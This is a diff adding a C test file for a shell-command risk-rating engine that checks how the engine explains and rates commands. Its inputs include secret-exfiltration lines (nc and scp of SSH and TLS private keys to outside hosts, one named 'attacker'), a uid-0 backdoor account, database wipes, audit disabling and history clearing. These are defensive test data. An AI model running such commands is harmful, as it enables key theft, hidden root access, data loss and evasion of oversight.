@@ -1,0 +1,166 @@
+/* The dangerous detail written on the line is said in the explanation
+ * (docs/RULES.md, "Words for the escort"): which data a folder holds, that
+ * uid 0 is the administrator, that secrets go to another computer, which one
+ * of several actions the line's words decide; and the report says each thing
+ * once, with one answer to "can it be undone".
+ *   test-explain-detail RULES_DIR */
+#include "check.h"
+#include "risk/risk.h"
+#include "util/buf.h"
+
+#include <stdlib.h>
+
+static struct risk_engine *engine;
+
+/* Every finding's explanation, one a line, then "undo: ..." for each. */
+static const char *words(const char *line, int *level)
+{
+	static struct buf b;
+	struct risk_report r;
+
+	buf_reset(&b);
+	risk_rate_line(engine, line, strlen(line), NULL, &r);
+	for (size_t i = 0; i < r.n; i++) {
+		buf_append_str(&b, r.findings[i].explain);
+		buf_putc(&b, '\n');
+	}
+	for (size_t i = 0; i < r.n; i++)
+		buf_printf(&b, "undo: %s\n", r.findings[i].undo);
+	*level = r.level;
+	risk_report_free(&r);
+	return buf_cstr(&b);
+}
+
+static void says(int line_no, const char *line, const char *text, int want)
+{
+	int level;
+	const char *w = words(line, &level);
+
+	if ((strstr(w, text) != NULL) != want) {
+		fprintf(stderr, "%s:%d: %s\n  %s \"%s\":\n%s\n", __FILE__, line_no, line,
+			want ? "does not say" : "says", text, w);
+		check_failures++;
+	}
+}
+
+static void rated(int line_no, const char *line, int want)
+{
+	int level;
+
+	words(line, &level);
+	if (level != want) {
+		fprintf(stderr, "%s:%d: %s\n  rated %d, want %d\n", __FILE__, line_no, line, level,
+			want);
+		check_failures++;
+	}
+}
+
+/* The text appears at most once (a finding block is not repeated). */
+static void once(int line_no, const char *line, const char *text)
+{
+	int level;
+	const char *w = words(line, &level), *at = strstr(w, text);
+
+	if (at && strstr(at + 1, text)) {
+		fprintf(stderr, "%s:%d: %s\n  says \"%s\" twice:\n%s\n", __FILE__, line_no, line,
+			text, w);
+		check_failures++;
+	}
+}
+
+#define SAYS(line, text) says(__LINE__, line, text, 1)
+#define NEVER_SAYS(line, text) says(__LINE__, line, text, 0)
+#define RATED(line, level) rated(__LINE__, line, level)
+#define ONCE(line, text) once(__LINE__, line, text)
+
+/* What a place holds, and who an account becomes. */
+static void the_detail(void)
+{
+	SAYS("rm -rf /var/lib/postgresql/14/main", "where the PostgreSQL database keeps its data");
+	RATED("rm -rf /var/lib/postgresql/14/main", LEVEL_CRITICAL);
+	RATED("sudo rm -rf /var/lib/docker/volumes/app_data", LEVEL_CRITICAL);
+	SAYS("rm -rf /var/lib/mongodb/*", "where the MongoDB database keeps its data");
+	RATED("rm /var/lib/postgresql/14/main/log/postgresql.log", LEVEL_HIGH);
+	SAYS("useradd -m -o -u 0 -g 0 backup2", "second administrator account");
+	RATED("useradd -m -o -u 0 -g 0 backup2", LEVEL_CRITICAL);
+	RATED("usermod -u 0 -o nagios", LEVEL_CRITICAL);
+	RATED("useradd -m -u 1050 alice", LEVEL_HIGH);
+	SAYS("usermod -aG sudo intern",
+	     "the group sudo, where its members may act as the administrator");
+	SAYS("cat ~/.ssh/id_rsa.pub", "a public key, not a secret");
+}
+
+/* Secrets that leave the machine, and where to. */
+static void secrets_out(void)
+{
+	SAYS("tar czf - /etc/ssl/private | nc 203.0.113.7 4444",
+	     "Sends secret files to another computer (203.0.113.7): /etc/ssl/private (the server's "
+	     "private encryption keys)");
+	RATED("tar czf - /etc/ssl/private | nc 203.0.113.7 4444", LEVEL_CRITICAL);
+	RATED("scp /root/.ssh/id_rsa attacker@198.51.100.9:/tmp/", LEVEL_CRITICAL);
+	SAYS("scp ~/.ssh/id_ed25519 ops@203.0.113.50:", "a private login key");
+	RATED("rsync -a /home/deploy/.ssh/ backup@192.0.2.9:/keys/", LEVEL_CRITICAL);
+	SAYS("tar czf - /var/www | nc 10.0.0.5 9000", "Sends /var/www (the website's files) to");
+	RATED("tar czf - /var/www | nc 10.0.0.5 9000", LEVEL_HIGH);
+	RATED("scp backup@10.0.0.5:/root/.ssh/id_rsa /tmp/", LEVEL_HIGH);
+	NEVER_SAYS("tar czf - /etc/ssl/private | nc 203.0.113.7 4444", "Looks at the network");
+}
+
+/* The line's words decide which of several actions happens. */
+static void one_action(void)
+{
+	NEVER_SAYS("aws ec2 terminate-instances --instance-ids i-0abc",
+		   "Deletes, removes or resets");
+	SAYS("aws ec2 terminate-instances --instance-ids i-0abc", "Deletes for good (terminates)");
+	SAYS("docker volume rm pgdata", "Deletes pgdata");
+	SAYS("passwd -d root", "Removes the password of root");
+	SAYS("passwd -l deploy", "Locks the password of deploy");
+	SAYS("userdel -r olduser", "Deletes the user account olduser");
+	SAYS("groupadd ops", "Creates the group ops");
+	SAYS("journalctl --vacuum-time=1s", "nearly the whole log");
+	NEVER_SAYS("journalctl --vacuum-time=30d", "nearly the whole log");
+	SAYS("rsync -avz --delete /srv/empty/ /var/www/html/", "an exact copy of /srv/empty/");
+}
+
+/* Truer statements and levels. */
+static void true_statements(void)
+{
+	RATED("sudo -l", LEVEL_INFO);
+	NEVER_SAYS("sudo -l", "Opens a shell");
+	RATED("sudo -i", LEVEL_HIGH);
+	NEVER_SAYS("ssh -R 8080:localhost:22 user@203.0.113.7 -N", "Runs -N");
+	SAYS("ssh -R 8080:localhost:22 user@203.0.113.7 -N", "Opens a way in from outside");
+	RATED("ssh -N -L 5432:db.internal:5432 bastion", LEVEL_MEDIUM);
+	RATED("ssh -R 8080:localhost:22 user@203.0.113.7 -N", LEVEL_HIGH);
+}
+
+/* Each thing said once, one answer to "can it be undone". */
+static void said_once(void)
+{
+	ONCE("systemctl stop auditd && systemctl disable auditd", "Stops or turns off");
+	ONCE("history -c && unset HISTFILE", "Clears or turns off the shell's command history");
+	NEVER_SAYS("kubectl delete namespace payments", "undo: partly");
+	NEVER_SAYS("terraform destroy -auto-approve", "undo: partly");
+	NEVER_SAYS("chmod -R 777 /etc", "undo: yes, with chmod");
+}
+
+int main(int argc, char **argv)
+{
+	struct error err;
+
+	if (argc != 2)
+		return 2;
+	setenv("ESCORT_NO_WHATIS", "1", 1);
+	engine = risk_engine_new(argv[1], RISK_NO_WHATIS, &err);
+	if (engine == NULL) {
+		fprintf(stderr, "%s\n", err.msg);
+		return 1;
+	}
+	the_detail();
+	secrets_out();
+	one_action();
+	true_statements();
+	said_once();
+	risk_engine_free(engine);
+	CHECK_DONE();
+}
